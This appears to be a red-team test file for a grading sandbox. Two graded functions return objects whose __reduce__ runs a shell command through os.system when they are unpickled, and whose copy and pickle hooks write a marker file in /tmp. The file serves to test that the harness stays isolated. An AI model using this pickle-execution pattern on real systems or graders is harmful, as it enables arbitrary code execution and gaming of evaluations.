"""Red team 36_reduce_pickle_payloads.

Attack: Return objects whose __reduce__, __reduce_ex__, __getstate__ and __del__ create a marker
file if anyone pickles, copies or unpickles them outside the sandbox.

Deserves: the short answers only (8), and no marker.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import os as _os

_MARKER = "/tmp/A2-REDTEAM-MARKER-reduce"


def _touch():
    try:
        with open(_MARKER + "-" + str(_os.geteuid()), "w") as handle:
            handle.write("unpickled")
    except OSError:
        pass
    return 15


class _Payload:
    def __reduce__(self):
        return (_os.system, ("touch " + _MARKER + "-$(id -u)",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        _touch()
        return {}

    def __copy__(self):
        _touch()
        return self


def receptive_field(layers):
    return _Payload()


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    return [[_Payload()]]
